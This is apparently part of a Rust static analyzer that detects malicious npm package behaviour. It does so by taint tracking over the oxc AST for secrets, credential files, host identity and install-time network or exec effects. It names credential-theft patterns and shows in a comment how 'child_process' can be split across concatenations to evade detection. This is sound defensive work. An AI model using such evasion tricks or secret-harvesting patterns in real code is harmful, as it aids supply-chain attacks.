//! The rules over the AST: parses a source with oxc (TypeScript/JSX by
//! extension), resolves scopes, symbols and references with oxc_semantic, and
//! walks the program to find what each expression may refer to ([`Val`]) and
//! which data may reach it (taint), reporting findings where a dangerous value
//! is obtained, a module is loaded, or a behaviour chain closes.
//!
//! Alias resolution: a variable, parameter or destructured name bound to a
//! tracked value (by declaration, assignment, default value, an
//! immediately-invoked function or a call of a function declared in the same
//! file) carries that value to every reference the semantic model resolves to
//! it. Findings are reported where a value is *obtained* (a global name, a
//! member access, a destructured key, a module specifier), not again at each
//! use of an alias. The walk is repeated until the bindings stop changing
//! (bounded), so uses before definitions are followed too; a repeated walk
//! re-enters only the functions and top-level statements that read a binding
//! changed since their last walk (the others repeat their recorded result).
//!
//! Taint (a module/function-granularity data-flow approximation): an expression
//! carries the union of what flows into it (its sub-expressions and the
//! variables it reads); function bodies do not leak into the expression that
//! contains the function, a function's return taint flows to its calls, and
//! callbacks of network calls receive remote data in their parameters.

use super::guard;
use super::rules::{classify_module, ModuleClass, RuleId};
use super::specs::{Decls, Specs};
use super::values::{builtin_of, global, is_credential_path, member, Api, Builtin, Val, Vals};

/// Depth bound of shape look-ups (objects holding objects, cycles through assignments).
const MAX_SHAPE_DEPTH: u32 = 16;
use crate::capability::{Capability, CapabilitySet};
use crate::hostcall::tool_capability;
use oxc_allocator::Allocator;
use oxc_ast::ast::*;
use oxc_ast_visit::{walk, Visit};
use oxc_parser::{ParseOptions, Parser};
use oxc_semantic::{Scoping, SemanticBuilder, Stats, SymbolId};
use oxc_span::{GetSpan, SourceType, Span};
use oxc_syntax::operator::{AssignmentOperator, BinaryOperator, UnaryOperator};
use oxc_syntax::scope::ScopeFlags;
use oxc_syntax::symbol::SymbolFlags;
use std::cell::{Cell, RefCell};
use std::hash::{BuildHasherDefault, Hasher};
use std::rc::Rc;

/// A fast non-cryptographic hasher (the Fx hash of rustc) for the walker's
/// tables, keyed by symbol ids and span offsets of one file: SipHash was ~10 %
/// of the scan time and these keys come from the parser, not from a peer.
#[derive(Default, Clone, Copy)]
struct FxHasher(u64);

impl Hasher for FxHasher {
    fn write(&mut self, bytes: &[u8]) {
        for chunk in bytes.chunks(8) {
            let mut b = [0u8; 8];
            b[..chunk.len()].copy_from_slice(chunk);
            self.add(u64::from_le_bytes(b));
        }
    }
    fn write_u32(&mut self, i: u32) {
        self.add(u64::from(i));
    }
    fn write_u64(&mut self, i: u64) {
        self.add(i);
    }
    fn write_usize(&mut self, i: usize) {
        self.add(i as u64);
    }
    fn finish(&self) -> u64 {
        self.0
    }
}

impl FxHasher {
    #[inline]
    fn add(&mut self, w: u64) {
        self.0 = (self.0.rotate_left(5) ^ w).wrapping_mul(0x51_7c_c1_b7_27_22_0a_95);
    }
}

type HashMap<K, V> = std::collections::HashMap<K, V, BuildHasherDefault<FxHasher>>;

/// Longest folded constant string kept.
pub(super) const MAX_FOLD: usize = 4096;
/// Binding passes before the reporting pass.
const MAX_PASSES: usize = 6;
/// Worlds walked at most (see [`Walker::worlds`]): the values of an entry
/// past this many are read only by the last world.
const MAX_WORLDS: usize = 8;
/// Walks of a file at most, over all worlds and rounds.
const MAX_WALKS: usize = 32;

/// Taint bits.
const SECRET: u8 = 1; // the whole environment, credential files
const IDENTITY: u8 = 2; // host identity (os.hostname, userInfo, networkInterfaces)
const REMOTE: u8 = 4; // data received from the network
const ENVVAR: u8 = 8; // one named environment variable
const CRED: u8 = 16; // a string naming a credential file
const HOME: u8 = 32; // a path outside the package (homedir, tmpdir, absolute)

/// A finding before positions are computed: the rule and the byte span that
/// names the dangerous thing.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Hit {
    pub rule: RuleId,
    pub start: u32,
    pub end: u32,
}

/// An effect that matters when the code runs at install time.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Effect {
    Network,
    Exec,
}

/// A module specifier the source loads (constant ones only).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Specifier {
    pub spec: String,
    pub start: u32,
}

/// The result of analysing one source.
#[derive(Debug, Clone, Default)]
pub struct Analysis {
    pub hits: Vec<Hit>,
    pub capabilities: CapabilitySet,
    pub specifiers: Vec<Specifier>,
    pub effects: Vec<(Effect, Hit)>,
    /// Parser diagnostics (the file did not parse).
    pub parse_errors: Vec<(String, u32)>,
    /// Secret or host-identity taint of what the module exports
    /// (`module.exports`, `exports.x`, `export …`), for the package graph.
    pub export_taint: u8,
}

/// Taint bits that cross module boundaries in the package graph: a secret or
/// host identity exported by one module and imported by another.
pub const EXPORTED_TAINT: u8 = SECRET | IDENTITY;

/// The oxc source type for a file name: TypeScript by extension, JSX in .jsx
/// and .tsx (and .js, where it cannot change the meaning of valid code).
pub fn source_type_for(label: &str) -> SourceType {
    let ends_with = |suffix: &str| {
        label.len() >= suffix.len()
            && label.as_bytes()[label.len() - suffix.len()..].eq_ignore_ascii_case(suffix.as_bytes())
    };
    if [".d.ts", ".d.mts", ".d.cts"].into_iter().any(ends_with) {
        // Declaration files hold types only (ambient `export const x: T;`).
        return SourceType::d_ts();
    }
    // The extension as `Path::extension` reads it (after the last `.` of the
    // file name, which must not start with it), compared in any case.
    let ext = std::path::Path::new(label)
        .extension()
        .and_then(|e| e.to_str())
        .unwrap_or("");
    const TYPED: [&str; 7] = ["ts", "mts", "cts", "tsx", "mjs", "cjs", "jsx"];
    match TYPED.into_iter().find(|t| ext.eq_ignore_ascii_case(t)) {
        Some(e) => SourceType::from_extension(e).unwrap_or_else(|_| SourceType::unambiguous()),
        None => SourceType::unambiguous().with_jsx(true),
    }
}

/// Parse and analyse `src` as the file `label`.
pub fn analyze(label: &str, src: &str) -> Analysis {
    analyze_with_imports(label, src, &[])
}

/// [`analyze`] where the modules named by `imports` (constant specifiers, as
/// written) export data with the given taint (package graph, see
/// [`Analysis::export_taint`]).
pub fn analyze_with_imports(label: &str, src: &str, imports: &[(String, u8)]) -> Analysis {
    // The arena is kept per thread and reset between files (a fresh one per
    // file cost a few percent on small files); a nested call gets its own.
    ARENA.with(|cell| match cell.try_borrow_mut() {
        Ok(mut allocator) => {
            allocator.reset();
            analyze_in(&allocator, label, src, imports, SHORTCUTS)
        }
        Err(_) => analyze_in(&Allocator::default(), label, src, imports, SHORTCUTS),
    })
}

thread_local! {
    static ARENA: RefCell<Allocator> = RefCell::new(Allocator::default());
}

/// The walk's shortcuts: whether a repeated walk may repeat a unit's
/// recorded result instead of walking it ([`Walker::unit`]), and whether the
/// visit of a static member expression may take its object's value from the
/// evaluation of an expression built on it ([`Walker::object_val`]). Always
/// on; off only to test that they change nothing.
#[derive(Debug, Clone, Copy)]
struct Shortcuts {
    replay: bool,
    hints: bool,
}

const SHORTCUTS: Shortcuts = Shortcuts {
    replay: true,
    hints: true,
};

fn analyze_in(
    allocator: &Allocator,
    label: &str,
    src: &str,
    imports: &[(String, u8)],
    shortcuts: Shortcuts,
) -> Analysis {
    let st = source_type_for(label);
    let opts = ParseOptions {
        allow_return_outside_function: true,
        ..ParseOptions::default()
    };
    let mut ret = Parser::new(allocator, src, st).with_options(opts).parse();
    let mut alt = None;
    if !ret.diagnostics.is_empty() && st.is_javascript() && !st.is_module() {
        // A CommonJS script may use sloppy-mode syntax a module forbids.
        let r2 = Parser::new(allocator, src, SourceType::cjs())
            .with_options(opts)
            .parse();
        if r2.diagnostics.is_empty() {
            alt = Some(r2);
        }
    }
    if let Some(r2) = alt {
        ret = r2;
    }
    let mut out = Analysis::default();
    for d in ret.diagnostics.errors() {
        let at = d.labels.first().map_or(0, |l| l.offset());
        out.parse_errors.push((d.message.to_string(), at));
    }
    if ret.panicked {
        return out;
    }
    let program = allocator.alloc(ret.program);
    // Capacities from the source length instead of oxc's counting walk over
    // the whole AST (~5 % of the scan): they only size the semantic tables
    // (an under-estimate grows them), never change what is built.
    let sem = SemanticBuilder::new()
        .with_stats(semantic_capacity(src.len()))
        .build(program);
    let scoping = sem.semantic.scoping();
    let bufs = WALKER_BUFS.with(|c| c.take()).unwrap_or_default();
    let mut w = Walker::new(src, scoping, program, bufs);
    w.replay = shortcuts.replay;
    w.hints_on = shortcuts.hints;
    w.ts = st.is_typescript();
    w.imports = imports.iter().map(|(s, t)| (s.clone(), t & EXPORTED_TAINT)).collect();
    // Every pass reports. A pass in which no binding changed after this pass
    // had read it saw, at every read, the bindings a further pass would see:
    // a further pass would repeat it exactly, so its report is the result (one
    // walk when every binding is defined before it is used). When an entry
    // holds several values, the other worlds are walked after it: a round
    // in which they changed nothing is the result (the union of its
    // passes' reports); otherwise world 0 starts again from what they added.
    let mut walks = 0;
    let mut worlds = 1;
    while walks < MAX_WALKS {
        for _ in 0..=MAX_PASSES {
            w.begin_pass(true, 0);
            w.visit_program(program);
            walks += 1;
            if !w.stale || walks >= MAX_WALKS {
                break;
            }
        }
        let clock = w.syms.clock;
        // (A later world may find more values or alternatives than world 0 did.)
        let mut k = 1;
        while k < w.worlds_needed() {
            w.begin_pass(true, k);
            w.visit_program(program);
            walks += 1;
            k += 1;
        }
        worlds = k;
        if w.syms.clock == clock {
            break;
        }
    }
    // The last round's lists (the whole lists, without a copy, after one pass).
    out.hits = tail(&mut w.hits, w.base.0);
    out.capabilities = w.caps;
    out.specifiers = tail(&mut w.specs, w.base.1);
    out.effects = tail(&mut w.effects, w.base.2);
    if worlds > 1 {
        dedup_in_order(&mut out.hits);
        dedup_in_order(&mut out.specifiers);
        dedup_in_order(&mut out.effects);
    }
    out.export_taint = w.export_taint & EXPORTED_TAINT;
    if src.len() <= KEEP_BUFS_UP_TO {
        WALKER_BUFS.with(|c| c.set(Some(w.into_bufs())));
    }
    out
}

/// Drop repeats of earlier elements (the worlds of a round report the same
/// findings again), keeping the first order.
fn dedup_in_order<T: PartialEq>(v: &mut Vec<T>) {
    let mut kept: Vec<T> = Vec::with_capacity(v.len());
    for x in v.drain(..) {
        if !kept.contains(&x) {
            kept.push(x);
        }
    }
    *v = kept;
}

/// `v[from..]`, taken out of `v`.
fn tail<T>(v: &mut Vec<T>, from: usize) -> Vec<T> {
    if from == 0 {
        std::mem::take(v)
    } else {
        v.split_off(from)
    }
}

/// Table capacities for the semantic model of a source of `len` bytes:
/// above the counts of ordinary code per byte (real npm files average 0.006
/// scopes, 0.010 symbols and 0.032 references per byte; the densest,
/// minified, 0.015, 0.032 and 0.099). The node count only matters when the
/// node store is built, which the scanner does not ask for.
pub fn semantic_capacity(len: usize) -> Stats {
    let n = |per: usize| u32::try_from(len / per + 16).unwrap_or(u32::MAX);
    Stats::new(n(4), n(64), n(32), n(10))
}

/// Byte offsets where whitespace or a comment can be inserted without changing
/// the tokens: starts of identifier references and of statements (fuzzing).
pub fn reference_starts(label: &str, src: &str) -> Vec<usize> {
    struct Starts(Vec<usize>);
    impl<'a> Visit<'a> for Starts {
        fn visit_identifier_reference(&mut self, it: &IdentifierReference<'a>) {
            self.0.push(it.span.start as usize);
        }
        fn visit_statement(&mut self, it: &Statement<'a>) {
            self.0.push(it.span().start as usize);
            walk::walk_statement(self, it);
        }
    }
    if guard::nesting_estimate(src.as_bytes()) > 512 {
        return Vec::new();
    }
    let allocator = Allocator::default();
    let ret = Parser::new(&allocator, src, source_type_for(label)).parse();
    if !ret.diagnostics.is_empty() {
        return Vec::new();
    }
    let mut s = Starts(Vec::new());
    s.visit_program(&ret.program);
    s.0.sort_unstable();
    s.0.dedup();
    s.0
}

/// A binding pattern, owned (so function parameters can be bound at call sites).
#[derive(Debug, Clone)]
enum Pat {
    Id(SymbolId),
    Obj(Vec<(Option<String>, Span, Pat)>, Option<Box<Pat>>),
    Arr(Vec<Pat>, Option<Box<Pat>>),
    Ignore,
}

fn pat_of(p: &BindingPattern<'_>) -> Pat {
    match p {
        BindingPattern::BindingIdentifier(id) => id.symbol_id.get().map_or(Pat::Ignore, Pat::Id),
        BindingPattern::ObjectPattern(o) => Pat::Obj(
            o.properties
                .iter()
                .map(|bp| (key_name(&bp.key), bp.key.span(), pat_of(&bp.value)))
                .collect(),
            o.rest.as_ref().map(|r| Box::new(pat_of(&r.argument))),
        ),
        BindingPattern::ArrayPattern(a) => Pat::Arr(
            a.elements
                .iter()
                .map(|e| e.as_ref().map_or(Pat::Ignore, pat_of))
                .collect(),
            a.rest.as_ref().map(|r| Box::new(pat_of(&r.argument))),
        ),
        BindingPattern::AssignmentPattern(a) => pat_of(&a.left),
    }
}

fn params_of(f: &FormalParameters<'_>) -> Vec<Pat> {
    let mut v: Vec<Pat> = f.items.iter().map(|p| pat_of(&p.pattern)).collect();
    if let Some(r) = &f.rest {
        v.push(pat_of(&r.rest.argument));
    }
    v
}

/// The static name of a property key (identifier, string, or folded constant).
pub(super) fn key_name(k: &PropertyKey<'_>) -> Option<String> {
    match k {
        PropertyKey::StaticIdentifier(id) => Some(id.name.as_str().to_string()),
        PropertyKey::PrivateIdentifier(_) => None,
        _ => k.as_expression().and_then(|e| fold_plain(e, 0)),
    }
}

/// Fold a constant string expression without symbol knowledge.
fn fold_plain(e: &Expression<'_>, depth: u32) -> Option<String> {
    fold_with(e, depth, &|_| None)
}

fn fold_with(
    e: &Expression<'_>,
    depth: u32,
    ident: &dyn Fn(&IdentifierReference<'_>) -> Option<String>,
) -> Option<String> {
    if depth > 16 {
        return None;
    }
    let s = match e.get_inner_expression() {
        Expression::StringLiteral(s) => s.value.as_str().to_string(),
        Expression::NumericLiteral(n) => n.value.to_string(),
        Expression::TemplateLiteral(t) => {
            let mut out = String::new();
            for (i, q) in t.quasis.iter().enumerate() {
                out.push_str(q.value.cooked.as_ref()?.as_str());
                if let Some(x) = t.expressions.get(i) {
                    out.push_str(&fold_with(x, depth + 1, ident)?);
                }
                if out.len() > MAX_FOLD {
                    return None;
                }
            }
            out
        }
        Expression::BinaryExpression(b) if b.operator == BinaryOperator::Addition => {
            let mut l = fold_with(&b.left, depth + 1, ident)?;
            l.push_str(&fold_with(&b.right, depth + 1, ident)?);
            l
        }
        Expression::Identifier(id) => ident(id)?,
        _ => return None,
    };
    (s.len() <= MAX_FOLD).then_some(s)
}

/// The shape ids of the class bound to `o`: its instances' (the start of the
/// name's declaration) and its own, for static methods (the end of the
/// name). Neither offset starts an object literal (the first is inside a
/// name, the second after one), so they never meet an object's
/// [`Val::Obj`] id.
fn class_shape_ids(scoping: &Scoping, o: SymbolId) -> (u32, u32) {
    let sp = scoping.symbol_span(o);
    (sp.start, sp.end)
}

/// Most strings [`fold_choices`] gives for one expression.
pub(super) const MAX_FOLD_CHOICES: usize = 8;

/// Every string a constant expression that chooses between constants may
/// fold to: both branches of a conditional, every combination of the
/// choices of a concatenation or template (`(a ? 'chi' : 'x') + (b ?
/// 'ld_process' : 'y')`); `None` when a part is not constant or there are
/// more than [`MAX_FOLD_CHOICES`]. Repeats dropped, in source order.
fn fold_choices(
    e: &Expression<'_>,
    depth: u32,
    ident: &dyn Fn(&IdentifierReference<'_>) -> Option<String>,
) -> Option<Vec<String>> {
    if depth > 16 {
        return None;
    }
    let out = match e.get_inner_expression() {
        Expression::ConditionalExpression(c) => {
            let mut all = fold_choices(&c.consequent, depth + 1, ident)?;
            for s in fold_choices(&c.alternate, depth + 1, ident)? {
                if !all.contains(&s) {
                    all.push(s);
                }
            }
            all
        }
        Expression::BinaryExpression(b) if b.operator == BinaryOperator::Addition => fold_product(
            fold_choices(&b.left, depth + 1, ident)?,
            &fold_choices(&b.right, depth + 1, ident)?,
        )?,
        Expression::TemplateLiteral(t) => fold_template(t, |x| fold_choices(x, depth + 1, ident))?,
        _ => vec![fold_with(e, depth, ident)?],
    };
    (out.len() <= MAX_FOLD_CHOICES && out.iter().all(|s| s.len() <= MAX_FOLD)).then_some(out)
}

/// Every string a template may be, given the strings each of its
/// expressions may be (`parts`), at most [`MAX_FOLD_CHOICES`].
pub(super) fn fold_template<'e, 'a: 'e>(
    t: &'e TemplateLiteral<'a>,
    mut parts: impl FnMut(&'e Expression<'a>) -> Option<Vec<String>>,
) -> Option<Vec<String>> {
    let mut all = vec![String::new()];
    for (i, q) in t.quasis.iter().enumerate() {
        let cooked = q.value.cooked.as_ref()?.as_str();
        all.iter_mut().for_each(|s| s.push_str(cooked));
        if let Some(x) = t.expressions.get(i) {
            all = fold_product(all, &parts(x)?)?;
        }
    }
    Some(all)
}

/// Every concatenation of one of `a` and one of `b` (repeats dropped), at
/// most [`MAX_FOLD_CHOICES`].
pub(super) fn fold_product(a: Vec<String>, b: &[String]) -> Option<Vec<String>> {
    if a.len() * b.len() > MAX_FOLD_CHOICES {
        return None;
    }
    let mut out: Vec<String> = Vec::with_capacity(a.len() * b.len());
    for l in &a {
        for r in b {
            let s = format!("{l}{r}");
            if !out.contains(&s) {
                out.push(s);
            }
        }
    }
    Some(out)
}

/// Depth bound of the statements searched for a function's `return`s.
const MAX_RETURN_DEPTH: u32 = 32;

/// The `return` statements of a function body (not of the functions in it),
/// in source order, down to [`MAX_RETURN_DEPTH`] nested statements.
pub(super) fn returns_in<'b, 'a>(sts: &'b [Statement<'a>], out: &mut Vec<&'b ReturnStatement<'a>>, depth: u32) {
    for st in sts {
        returns_of(st, out, depth);
    }
}

fn returns_of<'b, 'a>(st: &'b Statement<'a>, out: &mut Vec<&'b ReturnStatement<'a>>, depth: u32) {
    if depth > MAX_RETURN_DEPTH {
        return;
    }
    let d = depth + 1;
    match st {
        Statement::ReturnStatement(r) => out.push(r),
        Statement::BlockStatement(b) => returns_in(&b.body, out, d),
        Statement::IfStatement(i) => {
            returns_of(&i.consequent, out, d);
            if let Some(a) = &i.alternate {
                returns_of(a, out, d);
            }
        }
        Statement::TryStatement(t) => {
            returns_in(&t.block.body, out, d);
            if let Some(h) = &t.handler {
                returns_in(&h.body.body, out, d);
            }
            if let Some(f) = &t.finalizer {
                returns_in(&f.body, out, d);
            }
        }
        Statement::SwitchStatement(sw) => {
            for c in &sw.cases {
                returns_in(&c.consequent, out, d);
            }
        }
        Statement::LabeledStatement(l) => returns_of(&l.body, out, d),
        Statement::WhileStatement(w) => returns_of(&w.body, out, d),
        Statement::DoWhileStatement(w) => returns_of(&w.body, out, d),
        Statement::ForStatement(f) => returns_of(&f.body, out, d),
        Statement::ForInStatement(f) => returns_of(&f.body, out, d),
        Statement::ForOfStatement(f) => returns_of(&f.body, out, d),
        Statement::WithStatement(w) => returns_of(&w.body, out, d),
        _ => {}
    }
}

/// Could this expression evaluate to a string of code? (string and template
/// literals, concatenations with a string, String(...)/toString results.)
fn is_stringish(e: &Expression<'_>) -> bool {
    match e.get_inner_expression() {
        Expression::StringLiteral(_) | Expression::TemplateLiteral(_) => true,
        Expression::BinaryExpression(b) if b.operator == BinaryOperator::Addition => {
            is_stringish(&b.left) || is_stringish(&b.right)
        }
        _ => false,
    }
}

/// Does a directive prologue hold `"use strict"`?
fn has_use_strict(ds: &[Directive<'_>]) -> bool {
    ds.iter().any(|d| d.directive.as_str() == "use strict")
}

fn is_function_expr(e: &Expression<'_>) -> bool {
    matches!(
        e.get_inner_expression(),
        Expression::FunctionExpression(_) | Expression::ArrowFunctionExpression(_)
    )
}

pub(super) fn function_params<'b, 'a>(e: &'b Expression<'a>) -> Option<&'b FormalParameters<'a>> {
    match e.get_inner_expression() {
        Expression::FunctionExpression(f) => Some(&f.params),
        Expression::ArrowFunctionExpression(f) => Some(&f.params),
        _ => None,
    }
}

/// What an object or array built from literals holds, as far as the rules
/// care: members at constant keys (every tracked value stored at a key, in
/// the order stored: a "may" analysis, a key may appear more than once),
/// members at keys not known statically (computed keys, elements after a
/// spread), and values whose own members were copied in (object spread,
/// `Object.assign` sources).
#[derive(Debug, Clone, Default, PartialEq)]
struct Shape {
    keys: Vec<(String, Val)>,
    unknown: Vec<Val>,
    copies: Vec<Val>,
    /// What the literal's methods return, by method name (read by calls
    /// `o.m()` only, never as members).
    rets: Vec<(String, Val)>,
}

impl Shape {
    fn is_empty(&self) -> bool {
        self.keys.is_empty() && self.unknown.is_empty() && self.copies.is_empty() && self.rets.is_empty()
    }

    /// Its prototype (the first value stored at `__proto__`: `{ __proto__:
    /// p }`, `Object.setPrototypeOf(o, p)`).
    fn proto(&self) -> Option<Val> {
        self.keys.iter().find(|(k, _)| k == "__proto__").map(|(_, v)| *v)
    }
}

/// Does the property name an object literal's prototype (`__proto__: p`)?
fn names_proto(p: &ObjectProperty<'_>) -> bool {
    !p.computed
        && match &p.key {
            PropertyKey::StaticIdentifier(id) => id.name.as_str() == "__proto__",
            PropertyKey::StringLiteral(s) => s.value.as_str() == "__proto__",
            _ => false,
        }
}

/// The constant names of an object literal's own members (its prototype's aside).
fn own_names(it: &ObjectExpression<'_>) -> Vec<String> {
    let own = |p: &ObjectPropertyKind<'_>| match p {
        ObjectPropertyKind::ObjectProperty(p) if !p.computed && !names_proto(p) => key_name(&p.key),
        _ => None,
    };
    it.properties.iter().filter_map(own).collect()
}

/// `(object, method)` when `callee` is a method of the global `Object`,
/// `Reflect` or `Promise`.
fn global_method<'e>(callee: &'e Expression<'_>, scoping: &Scoping) -> Option<(&'e str, &'e str)> {
    let Expression::StaticMemberExpression(m) = callee.get_inner_expression() else {
        return None;
    };
    let Expression::Identifier(id) = m.object.get_inner_expression() else {
        return None;
    };
    let on = id.name.as_str();
    if !matches!(on, "Object" | "Reflect" | "Promise") {
        return None;
    }
    let unresolved = id
        .reference_id
        .get()
        .is_none_or(|r| scoping.get_reference(r).symbol_id().is_none());
    unresolved.then(|| (on, m.property.name.as_str()))
}

/// Array methods whose callback receives the array's elements.
pub(super) const CALLBACK_METHODS: [&str; 9] = [
    "map",
    "forEach",
    "filter",
    "find",
    "findLast",
    "some",
    "every",
    "flatMap",
    "findIndex",
];

/// Array methods that return one of the array's elements.
const ELEMENT_METHODS: [&str; 7] = ["pop", "shift", "at", "find", "findLast", "values", "entries"];

/// A set of byte offsets of one source (span starts), as a bit set: the
/// walker marks many expressions per pass, and hashing them cost more than
/// the marks are worth. Offsets past the source are never marked.
#[derive(Debug, Default)]
struct Marks(Vec<u64>);

impl Marks {
    /// No marks, for a source of `len` bytes, in the buffer of `self`.
    fn reset(&mut self, len: usize) {
        self.0.clear();
        self.0.resize(len / 64 + 1, 0);
    }

    fn insert(&mut self, at: u32) {
        if let Some(w) = self.0.get_mut(at as usize / 64) {
            *w |= 1 << (at % 64);
        }
    }

    fn remove(&mut self, at: u32) {
        if let Some(w) = self.0.get_mut(at as usize / 64) {
            *w &= !(1 << (at % 64));
        }
    }

    fn contains(&self, at: u32) -> bool {
        self.0.get(at as usize / 64).is_some_and(|w| w & (1 << (at % 64)) != 0)
    }

    fn clear(&mut self) {
        self.0.fill(0);
    }
}

/// Per-symbol tables, indexed by the semantic model's symbol ids, with what
/// the current pass has read of each (for the fixpoint test, see
/// [`Walker::stale`]).
#[derive(Default)]
struct SymTables {
    /// Tracked values bound to the symbol (all of them: a "may" set).
    val: Vec<Vals>,
    taint: Vec<u8>,
    /// Folded constant strings of `const` bindings.
    str: Vec<Option<String>>,
    /// Parameters of functions bound to the symbol.
    params: Vec<Option<Rc<[Pat]>>>,
    /// Return taint of functions bound to the symbol.
    ret: Vec<u8>,
    /// The tracked values the function bound to the symbol returns.
    retv: Vec<Vals>,
    /// The tracked values the function bound to the symbol lets escape by a
    /// `throw` (its own or a function's it calls), or the promise bound to
    /// it is rejected with (awaiting it throws the value).
    thrv: Vec<Vals>,
    /// The tracked values methods of the object or class bound to the symbol
    /// let escape by a `throw`: any call of one of its methods may throw any
    /// of them.
    mthrv: Vec<Vals>,
    /// `R_*` bits: which tables this pass has read at the symbol.
    read: Vec<Cell<u8>>,
    /// Version of each table entry (symbol × table, see [`table_slot`]): the
    /// clock at its last change, 0 if never changed.
    ver: Vec<u32>,
    /// Ticks at every change of a table entry or a shape.
    clock: u32,
    /// Every read of a table entry or a shape, in walk order, over all passes
    /// (see [`Walker::unit`]).
    log: RefCell<Vec<Read>>,
    /// Reads before this log index are not merged with a repeated read.
    floor: Cell<usize>,
    /// Per [`table_slot`]: the [`SymTables::epoch`] in which it was last
    /// logged (reset when it changes): a read of a slot already logged, at
    /// the same version, since the last seal is not logged again.
    logged: Vec<Cell<u32>>,
    /// Counts seals (starts at 1: 0 means never logged).
    epoch: Cell<u32>,
    /// The world of the current pass: which value a read of an entry
    /// holding several takes (see [`Vals::pick`] and [`Walker::worlds`]).
    world: usize,
}

/// One logged read: which entry, of what kind, and its version when read.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Read {
    id: u32,
    ver: u32,
    /// An `R_*` bit (a symbol table), [`K_SHAPE`] or [`K_GUARD`].
    kind: u8,
    /// For [`K_GUARD`]: how many reads after it the guard decides.
    len: u32,
}

/// A read of a shape (by [`Val::Obj`] id). Not an `R_*` bit: kinds are
/// compared, never masked.
const K_SHAPE: u8 = 0x81;
/// The `const` string guard of a declarator saw no string (not a noted
/// read): the next `len` reads are made only while it stays so.
const K_GUARD: u8 = 0x82;
/// `.then` / `.finally` calls a rejection is followed through.
const MAX_REJECTION_HOPS: usize = 16;
/// Tables per symbol in [`SymTables::ver`].
const TABLES: usize = 8;

/// The slot of `(symbol, R_* bit)` in [`SymTables::ver`].
#[inline]
fn table_slot(s: usize, bit: u8) -> usize {
    s * TABLES + bit.trailing_zeros() as usize
}

const R_VAL: u8 = 1;
const R_TAINT: u8 = 2;
const R_STR: u8 = 4;
const R_PARAMS: u8 = 8;
const R_RET: u8 = 16;
const R_RETV: u8 = 32;
const R_THRV: u8 = 64;
const R_MTHRV: u8 = 128;

impl SymTables {
    /// Empty tables for `n` symbols, in the buffers of `self`.
    fn reset(&mut self, n: usize) {
        self.val.clear();
        self.val.resize(n, Vals::Empty);
        self.taint.clear();
        self.taint.resize(n, 0);
        self.str.clear();
        self.str.resize(n, None);
        self.params.clear();
        self.params.resize(n, None);
        self.ret.clear();
        self.ret.resize(n, 0);
        self.retv.clear();
        self.retv.resize(n, Vals::Empty);
        self.thrv.clear();
        self.thrv.resize(n, Vals::Empty);
        self.mthrv.clear();
        self.mthrv.resize(n, Vals::Empty);
        self.read.clear();
        self.read.resize_with(n, || Cell::new(0));
        self.ver.clear();
        self.ver.resize(n * TABLES, 0);
        self.clock = 0;
        self.log.get_mut().clear();
        self.log.get_mut().shrink_to(1 << 20);
        self.floor.set(0);
        self.logged.clear();
        self.logged.resize_with(n * TABLES, || Cell::new(0));
        self.epoch.set(1);
        self.world = 0;
    }

    /// Record that this pass read table `bit` at `s`. The read is appended
    /// to the log without [`SymTables::log_read`]'s test for a repeat: a read
    /// of the same slot since the last seal is not logged again (`logged`),
    /// and one after a change of the slot has a newer version, so it never
    /// repeats the last entry.
    #[inline]
    fn note(&self, s: SymbolId, bit: u8) {
        if let Some(c) = self.read.get(s.index()) {
            c.set(c.get() | bit);
            let slot = table_slot(s.index(), bit);
            let epoch = self.epoch.get();
            if self.logged[slot].replace(epoch) != epoch {
                self.log.borrow_mut().push(Read {
                    id: s.index() as u32,
                    ver: self.ver[slot],
                    kind: bit,
                    len: 0,
                });
            }
        }
    }

    /// Append a read to the log (a repeat of the last one is not appended).
    #[inline]
    fn log_read(&self, id: u32, kind: u8, ver: u32) {
        let mut log = self.log.borrow_mut();
        let r = Read { id, ver, kind, len: 0 };
        if log.len() > self.floor.get() && log.last() == Some(&r) {
            return;
        }
        log.push(r);
    }

    /// No later read merges with one logged so far.
    fn seal(&self) {
        self.epoch.set(self.epoch.get() + 1);
        self.floor.set(self.log.borrow().len());
    }

    /// Table `bit` at `s` changed.
    #[inline]
    fn changed(&mut self, s: SymbolId, bit: u8) {
        self.clock += 1;
        let slot = table_slot(s.index(), bit);
        if let Some(v) = self.ver.get_mut(slot) {
            *v = self.clock;
            self.logged[slot].set(0);
        }
    }

    fn was_read(&self, s: SymbolId, bit: u8) -> bool {
        self.read.get(s.index()).is_some_and(|c| c.get() & bit != 0)
    }

    fn val(&self, s: SymbolId) -> Option<Val> {
        self.note(s, R_VAL);
        self.val.get(s.index()).and_then(|v| v.pick(self.world))
    }

    /// May the symbol hold `v` (in any world)?
    fn val_has(&self, s: SymbolId, v: Val) -> bool {
        self.note(s, R_VAL);
        self.val.get(s.index()).is_some_and(|vs| vs.contains(v))
    }

    fn taint(&self, s: SymbolId) -> u8 {
        self.note(s, R_TAINT);
        self.taint.get(s.index()).copied().unwrap_or(0)
    }

    fn str(&self, s: SymbolId) -> Option<&String> {
        self.note(s, R_STR);
        self.str.get(s.index()).and_then(|x| x.as_ref())
    }

    fn params(&self, s: SymbolId) -> Option<Rc<[Pat]>> {
        self.note(s, R_PARAMS);
        self.params.get(s.index()).and_then(|x| x.clone())
    }

    fn ret(&self, s: SymbolId) -> u8 {
        self.note(s, R_RET);
        self.ret.get(s.index()).copied().unwrap_or(0)
    }

    fn retv(&self, s: SymbolId) -> Option<Val> {
        self.note(s, R_RETV);
        self.retv.get(s.index()).and_then(|v| v.pick(self.world))
    }

    fn thrv(&self, s: SymbolId) -> Option<Val> {
        self.note(s, R_THRV);
        self.thrv.get(s.index()).and_then(|v| v.pick(self.world))
    }

    fn mthrv(&self, s: SymbolId) -> Option<Val> {
        self.note(s, R_MTHRV);
        self.mthrv.get(s.index()).and_then(|v| v.pick(self.world))
    }
}

/// A function around the current node: where what it returns and throws goes.
#[derive(Debug, Clone, Copy, Default)]
struct Frame {
    /// The symbol the function is bound to: its calls by that name return
    /// and throw what it does.
    sym: Option<SymbolId>,
    /// The object or class the function is a method of: calls of its
    /// methods throw what it throws.
    owner: Option<SymbolId>,
    /// The function is a `new Promise` executor (its index in
    /// [`Walker::executors`]): what it throws rejects the promise.
    executor: Option<usize>,
}

/// A `new Promise(executor)` whose executor is being visited: the symbol of
/// the executor's reject parameter and the tracked values the promise is
/// rejected with (by a call of that parameter or a throw of the executor).
